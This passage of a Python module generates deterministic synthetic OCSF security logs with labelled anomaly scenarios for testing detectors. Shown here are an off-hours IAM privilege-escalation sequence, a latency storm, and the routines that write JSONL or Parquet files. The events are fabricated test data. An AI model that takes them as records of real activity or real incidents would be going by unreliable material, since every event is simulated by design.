            parent_name=[s[0] for s in steps], parent_pid=parent_pid, exit_code=None,
            denied=False, scenario="suspicious_process_lineage"))
    return events


PRIVILEGED_SEQUENCE = ("GetCallerIdentity", "ListUsers", "CreateUser", "CreateLoginProfile", "AttachUserPolicy",
                       "CreateAccessKey", "PutUserPolicy", "ListRoles")


def _offhours_privileged_api(rng: np.random.Generator, pop: Population, count: int, start_ms: int) -> list[dict]:
    """A non-administrator's credentials create an IAM user, give it admin rights and a key, at 1-4 am."""
    events: list[dict] = []
    for size in _split(count, len(PRIVILEGED_SEQUENCE)):
        user = int(rng.choice(_humans(pop, admin=False)))
        ops = [API_OP_INDEX[PRIVILEGED_SEQUENCE[i % len(PRIVILEGED_SEQUENCE)]] for i in range(size)]
        new_user = f"backup-admin-{int(rng.integers(10, 99))}"
        failure = np.full(size, -1)
        if size > 4:
            failure[4] = 0  # the first AttachUserPolicy is refused, the retry (PutUserPolicy) goes through
        events += _api_events(pop, ApiBatch(
            time=_gaps(rng, _incident_start(rng, start_ms, hours=(1, 4), weekdays_only=False), size, 20_000),
            user=user, operation=ops, src_ip=pop.home_ip[user], country=pop.country[user],
            user_agent="aws-cli/2.15.30 Python/3.11.8", failure=failure,
            resource=[f"user/{new_user}" for _ in range(size)], region="us-east-1",
            duration=rng.integers(40, 300, size=size), scenario="offhours_privileged_api"))
    return events


def _latency_storm(rng: np.random.Generator, pop: Population, count: int, start_ms: int) -> list[dict]:
    """The order API's database stalls: for half an hour requests time out at the gateway (504) or crawl."""
    events: list[dict] = []
    site = LATENCY_STORM_SITE
    for size in _split(count, 180):
        users = rng.choice(_humans(pop), size=size)
        t0 = _incident_start(rng, start_ms, hours=(10, 16), weekdays_only=True)
        tpl = rng.integers(0, len(SITES[site][2]), size=size)
        n_timeouts, n_unavailable = round(0.7 * size), round(0.1 * size)
        outcome = rng.permutation(np.repeat([504, 503, 200], [n_timeouts, n_unavailable, size - n_timeouts - n_unavailable]))
        latency = np.where(outcome == 504, 30_000 + rng.integers(0, 500, size=size),
                           np.where(outcome == 503, rng.integers(5, 50, size=size), rng.integers(8_000, 28_000, size=size)))
        ints = rng.integers(1, 100_000, size=(size, 3)).tolist()
        methods = [SITES[site][2][t][0] for t in tpl.tolist()]
        code = np.where((outcome == 200) & (np.array(methods) == "POST"), 201, np.where((outcome == 200) & (np.array(methods) == "DELETE"), 204, outcome))
        events += _http_events(pop, HttpBatch(
            time=np.sort(t0 + rng.integers(0, int(rng.integers(20, 40)) * 60_000, size=size)), src_host=pop.host[users],
            site=site, method=methods, path=[_fill(SITES[site][2][t][1], i, "") for t, i in zip(tpl.tolist(), ints)],
            query=[_fill(SITES[site][2][t][2], i, "") for t, i in zip(tpl.tolist(), ints)],
            user_agent=np.array(BROWSER_AGENTS, dtype=object)[pop.browser[users]], request_length=0, code=code,
            latency=latency, response_length=np.where(code >= 500, 160, np.where(code == 204, 0, rng.integers(2_000, 40_000, size=size))),
            scenario="latency_storm"))
    return events


SCENARIO_BUILDERS: dict[str, Callable[..., list[dict]]] = {
    "password_spray": _password_spray,
    "new_country_login": _new_country_login,
    "data_exfiltration": _data_exfiltration,
    "port_scan": _port_scan,
    "suspicious_process_lineage": _suspicious_process_lineage,
    "offhours_privileged_api": _offhours_privileged_api,
    "latency_storm": _latency_storm,
}


# ----------------------------------------------------------------------------- public API


def generate_events(n_events: int = DEFAULT_EVENTS, seed: int = 0, start: datetime | None = None) -> list[dict]:
    """``n_events`` nested OCSF 1.x events over two weeks from ``start``, sorted by time, ~2% labelled anomalies.

    The same (n_events, seed, start) always gives the same events. A naive ``start`` is taken as UTC.
    Working hours are counted on ``start``'s clock (midnight UTC by default): pass a midnight.
    """
    if not isinstance(n_events, (int, np.integer)) or isinstance(n_events, bool) or n_events < MIN_EVENTS:
        raise UserError(f"n_events must be an integer of at least {MIN_EVENTS}, got n_events={n_events!r}")
    begin = start or DEFAULT_START
    if begin.tzinfo is None:
        begin = begin.replace(tzinfo=timezone.utc)
    start_ms = int(begin.timestamp() * 1000)
    rng = np.random.default_rng(seed)
    pop = build_population(rng)
    counts = _scenario_counts(int(n_events))
    events = _normal_events(rng, pop, int(n_events) - sum(counts.values()), start_ms)
    for name, count in counts.items():
        events += SCENARIO_BUILDERS[name](rng, pop, count, start_ms)
    end_ms = start_ms + PERIOD_DAYS * 24 * HOUR_MS - 1
    for event in events:  # an incident that starts late on the last day stays inside the period
        if event["time"] > end_ms:
            event["time"] = end_ms
    events.sort(key=lambda e: e["time"])  # stable: ties keep their (deterministic) generation order
    for event, uid in zip(events, _uids(rng, len(events))):
        event["metadata"]["uid"] = uid
    return events


def _uids(rng: np.random.Generator, n: int) -> list[str]:
    """Version-4-shaped UUIDs from the generator, so they repeat exactly for a seed."""
    raw = rng.bytes(16 * n).hex()
    out = []
    for i in range(n):
        h = raw[32 * i: 32 * i + 32]
        out.append(f"{h[:8]}-{h[8:12]}-4{h[13:16]}-{'89ab'[int(h[16], 16) % 4]}{h[17:20]}-{h[20:32]}")
    return out


def scenario_counts(events: Iterable[dict]) -> dict[str, int]:
    """Events per labelled scenario, "normal" included, in a stable order."""
    counts = {NORMAL: 0, **{name: 0 for name in SCENARIOS}}
    for event in events:
        scenario = event.get("_label", {}).get("scenario", NORMAL)
        counts[scenario] = counts.get(scenario, 0) + 1
    return counts


FORMATS = (".jsonl.gz", ".jsonl", ".json", ".parquet")


def output_format(path: str | os.PathLike) -> str:
    """The format a path's extension asks for; UserError for anything we cannot write."""
    name = Path(path).name.lower()
    for suffix in FORMATS:
        if name.endswith(suffix):
            return suffix
    raise UserError(f"cannot write events to {os.fspath(path)}: unknown extension, use one of {', '.join(FORMATS)}")


def write_events(events: Sequence[dict], path: str | os.PathLike) -> Path:
    """Write events atomically, the format chosen by extension (nested structs kept in Parquet)."""
    fmt = output_format(path)
    if fmt == ".parquet":
        data = _parquet_bytes(events)
    elif fmt == ".json":
        data = json.dumps(list(events), separators=(",", ":"), check_circular=False).encode("utf-8")
    else:
        encode = json.JSONEncoder(separators=(",", ":"), check_circular=False).encode
        data = "".join(encode(e) + "\n" for e in events).encode("utf-8")
        if fmt == ".jsonl.gz":
            data = gzip.compress(data, compresslevel=6, mtime=0)  # mtime=0: the same events give the same bytes
    return atomic_write_bytes(path, data)


def _parquet_bytes(events: Sequence[dict]) -> bytes:
    import pyarrow as pa
    import pyarrow.parquet as pq

    table = pa.Table.from_struct_array(pa.array(list(events)))  # pa.array unifies keys across classes
    sink = io.BytesIO()
    pq.write_table(table, sink, compression="zstd")
    return sink.getvalue()


@dataclass(frozen=True)
class GeneratedFile:
    """What ``generate_file`` wrote."""

    out: str
    events: int
    anomalies: int
    scenarios: dict[str, int] = field(default_factory=dict)  # anomaly scenario -> events
    seconds: float = 0.0

    def to_dict(self) -> dict[str, Any]:
        return {"events": self.events, "out": self.out, "seconds": round(self.seconds, 3),
                "anomalies": self.anomalies, "scenarios": dict(self.scenarios)}


def generate_file(path: str | os.PathLike, n_events: int = DEFAULT_EVENTS, seed: int = 0) -> GeneratedFile:
    """Generate events and write them to ``path`` (format by extension); returns counts and the time taken."""
    output_format(path)  # fail on a bad extension before spending time generating
    began = _time.perf_counter()
    events = generate_events(n_events, seed)
    write_events(events, path)
    seconds = _time.perf_counter() - began
    counts = scenario_counts(events)
    anomalies = {name: counts[name] for name in SCENARIOS}
    log.info("wrote %d events (%d anomalies) to %s in %.2f s", len(events), sum(anomalies.values()), path, seconds)
    return GeneratedFile(out=os.fspath(path), events=len(events), anomalies=sum(anomalies.values()),
                         scenarios=anomalies, seconds=seconds)
